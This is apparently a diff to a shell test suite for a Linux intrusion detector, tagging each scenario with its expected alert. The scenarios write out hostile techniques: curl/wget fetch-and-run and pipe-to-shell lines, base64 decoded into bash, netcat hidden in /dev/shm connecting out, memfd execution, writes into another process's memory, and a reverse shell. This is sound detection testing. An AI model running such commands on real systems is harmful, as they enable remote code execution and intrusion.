@@ -91,7 +91,7 @@ make_victim() {
 }
 is_sleep() { local name; read -r name <"/proc/$victim/comm"; [ "$name" = sleep ]; }
 
-scenario memfd_exec "python writes a program into a memory file and becomes it"
+scenario memfd_exec "python writes a program into a memory file and becomes it" memory_file_executed
 memfd_exec() {
   as_guest /usr/bin/python3 -c "
 import os
@@ -100,7 +100,7 @@ os.write(fd, open('/bin/true', 'rb').read())
 os.execv(f'/proc/self/fd/{fd}', ['note'])"
 }
 
-scenario memfd_download "perl fetches a program into a memory file and runs it as a child"
+scenario memfd_download "perl fetches a program into a memory file and runs it as a child" memory_file_executed
 memfd_download() {
   as_guest perl -e "
 use IO::Socket::INET;
@@ -120,7 +120,7 @@ fd = os.memfd_create('cache'); os.write(fd, b'data')
 subprocess.run(['/bin/true'])"
 }
 
-scenario deletes_itself "a program removes its own file while it runs"
+scenario deletes_itself "a program removes its own file while it runs" program_deletes_itself
 deletes_itself() {
   cp /usr/bin/perl /tmp/update
   chown 4242 /tmp/update
@@ -134,13 +134,13 @@ deletes_another() {
   as_guest /tmp/work -e 'open(F, ">", "/tmp/scratch"); close F; unlink "/tmp/scratch"'
 }
 
-scenario shm_connects "a program lies in shared memory and connects to another host"
+scenario shm_connects "a program lies in shared memory and connects to another host" hidden_program_connects
 shm_connects() {
   install -m 0755 /usr/bin/nc.openbsd /dev/shm/.cache
   echo hello | as_guest /dev/shm/.cache -N -w 2 "$far_ip" 9021
 }
 
-scenario tmp_hidden_connects "a program lies in a hidden folder below /tmp and connects to another host"
+scenario tmp_hidden_connects "a program lies in a hidden folder below /tmp and connects to another host" hidden_program_connects
 tmp_hidden_connects() {
   install -d -m 0755 /tmp/.X1
   install -m 0755 /usr/bin/nc.openbsd /tmp/.X1/agent
@@ -159,13 +159,13 @@ l = socket.create_server(('127.0.0.1', 8100)); s, _ = l.accept(); s.close()" &
   return 0
 }
 
-scenario rwx_connects "a program writes code into memory, runs it and connects to another host"
+scenario rwx_connects "a program writes code into memory, runs it and connects to another host" executable_memory_then_connect
 rwx_connects() {
   install -m 0755 /opt/tools/rwx /home/guest/rwx
   as_guest /home/guest/rwx "$far_ip" 9023
 }
 
-scenario rwx_python "python makes memory executable through ctypes, then connects"
+scenario rwx_python "python makes memory executable through ctypes, then connects" executable_memory_then_connect
 rwx_python() {
   as_guest /usr/bin/python3 -c "
 import mmap, socket
@@ -185,19 +185,19 @@ node_connects() {
   as_guest "$(command -v node)" -e "require('net').connect(9025, '$far_ip', function () { this.end(); })"
 }
 
-scenario ptrace_poke "a program attaches to another process and writes a word of its memory"
+scenario ptrace_poke "a program attaches to another process and writes a word of its memory" ptrace_write
 ptrace_poke() {
   make_victim
   /opt/tools/inject ptrace "$victim" "$place"
 }
 
-scenario vm_writev "a program writes a word of another process's memory in one call"
+scenario vm_writev "a program writes a word of another process's memory in one call" foreign_memory_write
 vm_writev() {
   make_victim
   /opt/tools/inject writev "$victim" "$place"
 }
 
-scenario proc_mem "python writes another process's memory through /proc"
+scenario proc_mem "python writes another process's memory through /proc" foreign_memory_write
 proc_mem() {
   make_victim
   /usr/bin/python3 -c "
@@ -205,7 +205,7 @@ m = open('/proc/$victim/mem', 'r+b', buffering=0); m.seek(0x$place); word = m.re
 m.seek(0x$place); m.write(word)"
 }
 
-scenario debugger_calls "gdb attaches without anybody at it and calls a function in the process"
+scenario debugger_calls "gdb attaches without anybody at it and calls a function in the process" debugger_calls_function
 debugger_calls() {
   needs gdb
   make_victim
@@ -221,13 +221,13 @@ tracers() {
   return 0
 }
 
-scenario curl_run "curl fetches a program, chmod makes it executable, it is run"
+scenario curl_run "curl fetches a program, chmod makes it executable, it is run" download_made_executable_run
 curl_run() { as_guest sh -c "cd /tmp; curl -s -o helper http://$far_ip/tool; chmod +x helper; ./helper; true"; }
 
-scenario wget_run "the same with wget, whole paths and numbers for the permissions"
+scenario wget_run "the same with wget, whole paths and numbers for the permissions" download_made_executable_run
 wget_run() { as_guest sh -c "wget -q -O /var/tmp/.agent http://$far_ip/tool; chmod 777 /var/tmp/.agent; /var/tmp/.agent; true"; }
 
-scenario python_fetch_run "python does all three itself"
+scenario python_fetch_run "python does all three itself" download_made_executable_run
 python_fetch_run() {
   as_guest /usr/bin/python3 -c "
 import os, subprocess, urllib.request
@@ -243,10 +243,10 @@ build_run() {
   as_guest sh -c "cd /tmp; cp /bin/true built; chmod +x built; ./built"
 }
 
-scenario curl_pipe_sh "what curl fetches goes right into sh"
+scenario curl_pipe_sh "what curl fetches goes right into sh" download_piped_to_interpreter
 curl_pipe_sh() { as_guest bash -c "curl -s http://$far_ip/tool.sh | sh"; }
 
-scenario wget_pipe_python "what wget fetches goes right into python"
+scenario wget_pipe_python "what wget fetches goes right into python" download_piped_to_interpreter
 wget_pipe_python() { as_guest bash -c "wget -q -O - http://$far_ip/tool.py | python3 -"; }
 
 scenario curl_pipe_grep "what curl fetches is searched; a shell script runs beside it"
@@ -255,7 +255,7 @@ curl_pipe_grep() {
   as_guest bash -c "curl -s http://$far_ip/tool.sh | grep -c echo; sh /home/guest/step.sh"
 }
 
-scenario base64_pipe_sh "encoded text is decoded right into a shell"
+scenario base64_pipe_sh "encoded text is decoded right into a shell" decoded_text_piped_to_shell
 base64_pipe_sh() { as_guest bash -c "echo aWQ7IGVjaG8gaGFybWxlc3MK | base64 -d | bash"; }
 
 scenario base64_file "encoded text is decoded into a file; a script runs"
@@ -264,7 +264,7 @@ base64_file() {
   as_guest bash -c "echo aGVsbG8K | base64 -d >/home/guest/text; sh /home/guest/step.sh"
 }
 
-scenario old_calls "a 64-bit program connects through 32-bit calls and becomes a shell"
+scenario old_calls "a 64-bit program connects through 32-bit calls and becomes a shell" mixed_width_calls reverse_shell_in_place
 old_calls() {
   install -m 0755 /opt/tools/old_calls /home/guest/old_calls
   as_guest /home/guest/old_calls "$far_ip" 9026
